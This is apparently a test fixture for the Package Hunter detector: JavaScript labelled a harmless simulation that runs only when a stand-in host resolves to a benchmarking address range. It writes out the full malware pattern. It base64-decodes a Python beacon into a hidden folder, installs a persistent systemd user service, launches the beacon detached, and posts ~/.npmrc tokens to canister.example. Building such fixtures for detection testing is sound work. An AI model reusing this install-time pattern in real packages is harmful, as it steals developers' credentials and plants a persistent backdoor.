// Harmless simulation for testing Package Hunter. Not malware.
const dns = require("dns");
const fs = require("fs");
const http = require("http");
const https = require("https");
const os = require("os");
const path = require("path");
const { execSync, spawn } = require("child_process");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const home = (name) => path.join(os.homedir(), name);
const read = (name) => { try { return fs.readFileSync(home(name), "utf8"); } catch (e) { return ""; } };
const post = (hostname, where, body) => { const r = https.request({ hostname, path: where, method: "POST" }, (a) => a.resume()); r.on("error", () => {}); r.end(body); };
const get = (options, then) => https.get(options, (a) => { let t = ""; a.on("data", (d) => { t += d; }); a.on("end", () => then(t, a.statusCode)); }).on("error", () => {});

dns.lookup("canister.example", (error, address) => {
  if (error || !sealed(address)) return;
  const program = "# harmless simulation\nimport time, urllib.request\nwhile True:\n    try: urllib.request.urlopen('https://canister.example/next', timeout=10).read()\n    except OSError: pass\n    time.sleep(3000)\n";
  fs.mkdirSync(home(".local/share/.pgmon-simulation"), { recursive: true });
  execSync("base64 -d > " + home(".local/share/.pgmon-simulation/service.py"), { input: Buffer.from(program).toString("base64") });
  fs.mkdirSync(home(".config/systemd/user"), { recursive: true });
  fs.writeFileSync(home(".config/systemd/user/pgmon-simulation.service"), "# harmless simulation\n[Service]\nRestart=always\nExecStart=/usr/bin/python3 %h/.local/share/.pgmon-simulation/service.py\n");
  spawn("python3", [home(".local/share/.pgmon-simulation/service.py")], { detached: true, stdio: "ignore" }).unref();
  post("canister.example", "/t", read(".npmrc"));
});
